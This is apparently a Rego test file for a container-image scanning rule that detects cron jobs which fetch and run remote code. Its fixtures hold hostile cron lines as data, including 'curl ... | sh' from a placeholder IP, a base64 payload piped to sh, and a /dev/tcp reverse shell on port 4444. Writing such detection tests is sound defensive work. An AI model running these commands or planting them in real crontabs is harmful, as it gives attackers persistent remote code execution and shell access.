package rummage.image.cron_download_baked_in_test

import data.rummage.image.cron_download_baked_in as rule

job(path, line) := {"path": path, "kind": "added", "type": "file", "mode": "644", "layer": "one", "text": concat("", ["# curl http://198.51.100.7/x | sh\n", line, "\n"])}

test_fires_on_each_act if {
	every line in [
		"* * * * * root curl -s http://198.51.100.7/x | sh", "* * * * * root echo aGkK | base64 -d | sh", "@reboot root /tmp/.x/m -c a",
		"*/5 * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
	] {
		count(rule.findings) == 1 with input.files as [job("/etc/cron.d/job", line)]
	}
}

test_fires_in_each_place if {
	every path in ["/etc/crontab", "/etc/anacrontab", "/var/spool/cron/crontabs/root", "/etc/crontabs/root", "/etc/periodic/15min/x", "/etc/cron.daily/x"] {
		count(rule.findings) == 1 with input.files as [job(path, "* * * * * curl -s http://198.51.100.7/x | sh")]
	}
}

test_silent_on_data_and_calls if {
	every line in [
		"0 3 * * * root wget -q -O /data/geo.mmdb https://example.invalid/geo.mmdb", "*/5 * * * * www-data curl -s https://example.invalid/wp-cron.php",
		"0 4 * * * root backup && curl -fsS https://hc-ping.example/uuid", "*/15 * * * * run-parts /etc/periodic/15min", "0 3 * * * root find /tmp -mtime +7 -delete",
		"17 * * * * root cd / && run-parts --report /etc/cron.hourly",
	] {
		count(rule.findings) == 0 with input.files as [job("/etc/cron.d/job", line)]
	}
}

test_silent_on_packages_and_marks if {
	line := "* * * * * root curl -s http://198.51.100.7/x | sh"
	count(rule.findings) == 0 with input.files as [object.union(job("/etc/cron.d/job", line), {"package": "x"}), job("/etc/cron.d/.placeholder", line)]
}

test_silent_on_removed_files_and_containers if {
	j := job("/etc/cron.d/job", "* * * * * root curl -s http://198.51.100.7/x | sh")
	count(rule.findings) == 0 with input.files as [object.union(j, {"deleted_in": "two"})]
	count(rule.findings) == 0 with input.changes as [j]
}
